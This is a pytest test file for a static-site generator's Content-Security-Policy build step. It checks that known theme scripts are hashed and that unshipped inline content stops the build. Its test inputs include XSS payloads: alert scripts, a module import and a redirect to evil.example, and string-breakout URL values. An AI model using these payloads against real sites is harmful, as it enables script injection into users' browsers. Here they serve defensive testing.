"""The Content-Security-Policy step on a finished site: the inline scripts and
styles Patternbook and the theme wrote are hashed, data blocks and external
scripts are not, any other inline script or style stops the build naming its
page, the policy is the same on every page, and running twice changes nothing."""

from __future__ import annotations

import base64
import gzip
import hashlib
import re
from pathlib import Path

import jinja2
import pytest

from patternbook.postbuild.context import PostBuildContext
from patternbook.postbuild.csp import POLICY_FILE, UnknownInlineContent, content_security_policy, shipped_template_dirs
from patternbook.postbuild.steps import POST_BUILD_STEPS
from patternbook.resources import packaged_theme_overrides

PAGE = """<!doctype html>
<html><head>
<meta charset="utf-8">
<script id="__config" type="application/json">{{"base": "{base}"}}</script>
<script src="assets/app.js"></script>
{theme}
{extra}
</head><body><p>text</p></body></html>
"""
#: Theme partials that write inline scripts into every page (Material's base template includes them).
_PARTIALS = ("partials/javascripts/base.html", "partials/javascripts/palette.html",
             "partials/javascripts/content.html")


def _theme_dir(name: str) -> Path:
    found = [folder for folder in shipped_template_dirs() if folder.parent.name == name]
    if not found:
        pytest.skip(f"{name} is not installed")
    return found[0]


def _theme_scripts(theme: str, base_url: str, features: tuple[str, ...] = ()) -> str:
    """The inline scripts the theme's own templates render for a page at ``base_url``,
    rendered here by Jinja2 from the installed templates, as the engines do."""
    environment = jinja2.Environment(loader=jinja2.FileSystemLoader(_theme_dir(theme)))
    context = {"base_url": base_url, "config": {"extra": {}}, "features": list(features)}
    return "\n".join(environment.get_template(name).render(context) for name in _PARTIALS)


def _our_style() -> str:
    """The inline <style> Patternbook's main.html writes (the no-JavaScript rules)."""
    return re.search(r"<noscript><style>.*?</style></noscript>",
                     (packaged_theme_overrides() / "main.html").read_text()).group()


def _sha(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def _inline_bodies(html: str) -> list[str]:
    return re.findall(r"<script>(.*?)</script>", html, re.S)


def _site(tmp_path: Path, theme: str = "material", extra: str = "") -> Path:
    site = tmp_path / "site"
    (site / "deep" / "page").mkdir(parents=True)
    (site / "index.html").write_text(PAGE.format(base=".", theme=_theme_scripts(theme, "."), extra=_our_style()))
    (site / "deep" / "page" / "index.html").write_text(
        PAGE.format(base="../..", theme=_theme_scripts(theme, "../..", ("content.tabs.link",)), extra=extra))
    (site / "404.html").write_text(PAGE.format(base="/", theme=_theme_scripts(theme, "/library/"), extra=""))
    return site


def _policy_of(html: str) -> str:
    return re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html).group(1)


@pytest.mark.parametrize("theme", ["material", "zensical"])
def test_the_theme_scripts_are_hashed_and_every_page_gets_one_policy(tmp_path: Path, theme: str) -> None:
    site = _site(tmp_path, theme)
    content_security_policy(PostBuildContext(site, build=None))
    policy = (site / POLICY_FILE).read_text().strip()
    expected = {_sha(body) for page in site.rglob("*.html") for body in _inline_bodies(page.read_text())}
    assert len(expected) == 6  # one base script per base_url (3), palette, tab links, hash target
    assert f"script-src 'self' {' '.join(sorted(expected))};" in policy
    assert _sha('{"base": "."}') not in policy  # a JSON data block never runs
    assert f"style-src 'self' {_sha(re.search(r'<style>(.*?)</style>', _our_style()).group(1))};" in policy
    for directive in ("object-src 'none'", "base-uri 'none'", "img-src 'self' data:"):
        assert directive in policy
    assert "unsafe" not in policy
    for page in (site / "index.html", site / "deep" / "page" / "index.html"):
        html = page.read_text()
        assert html.index("Content-Security-Policy") < html.index("<script")  # before anything can run
        assert _policy_of(html) == policy


@pytest.mark.parametrize("injected", [
    "<script>alert(document.domain)</script>",
    "<SCRIPT type=module>import('//evil.example/x.js')</SCRIPT>",
    "<script data-type=\"application/json\">alert(1)</script>",
    "<style>body { background: url(//evil.example/) }</style>",
])
def test_an_inline_script_or_style_nobody_shipped_stops_the_build_naming_the_page(tmp_path: Path,
                                                                                   injected: str) -> None:
    site = _site(tmp_path, extra=injected)
    with pytest.raises(UnknownInlineContent, match=r"deep/page/index\.html: inline <(script|style)>") as raised:
        content_security_policy(PostBuildContext(site, build=None))
    assert "index.html:" not in str(raised.value).replace("deep/page/index.html:", "")  # only the bad page
    assert not (site / POLICY_FILE).exists()


@pytest.mark.parametrize("base_url", ['.\\");alert(1);("', "javascript:alert(1)", "//evil.example/", "./<x>"])
def test_a_theme_script_whose_url_is_not_a_relative_url_is_not_ours(tmp_path: Path, base_url: str) -> None:
    """The per-page part of a known script may only be a relative URL: a value that breaks out
    of the string (or names another host) makes the whole script unknown."""
    site = _site(tmp_path, extra=_theme_scripts("material", base_url).split("\n")[0])
    with pytest.raises(UnknownInlineContent, match=r"deep/page/index\.html"):
        content_security_policy(PostBuildContext(site, build=None))


def test_a_theme_script_with_a_value_that_is_not_a_url_is_refused(tmp_path: Path) -> None:
    """Material's redirect page prints ``page.meta.location`` into a script: not a known body."""
    redirect = '<script>window.location.replace(["https://evil.example",window.location.search,' \
               'window.location.hash].join(""))</script>'
    with pytest.raises(UnknownInlineContent):
        content_security_policy(PostBuildContext(_site(tmp_path, extra=redirect), build=None))


def test_running_twice_gives_the_same_site(tmp_path: Path) -> None:
    site = _site(tmp_path)
    content_security_policy(PostBuildContext(site, build=None))
    first = {p: p.read_bytes() for p in site.rglob("*") if p.is_file()}
    content_security_policy(PostBuildContext(site, build=None))
    assert {p: p.read_bytes() for p in site.rglob("*") if p.is_file()} == first


def test_webassembly_is_allowed_only_when_the_site_ships_it(tmp_path: Path) -> None:
    site = _site(tmp_path)
    content_security_policy(PostBuildContext(site, build=None))
    assert "wasm-unsafe-eval" not in (site / POLICY_FILE).read_text()
    (site / "search").mkdir()
    (site / "search" / "wasm.en.pagefind").write_bytes(gzip.compress(b"\0asm\x01\0\0\0" + bytes(64)))
    content_security_policy(PostBuildContext(site, build=None))
    policy = (site / POLICY_FILE).read_text()
    assert "script-src 'self' 'wasm-unsafe-eval' 'sha256-" in policy and "'unsafe-eval'" not in policy


def test_serving_leaves_pages_alone(tmp_path: Path) -> None:
    site = _site(tmp_path)
    before = (site / "index.html").read_text()
    content_security_policy(PostBuildContext(site, build=None, serving=True))
    assert (site / "index.html").read_text() == before


def test_the_policy_is_the_last_post_build_step() -> None:
    assert POST_BUILD_STEPS[-1] is content_security_policy
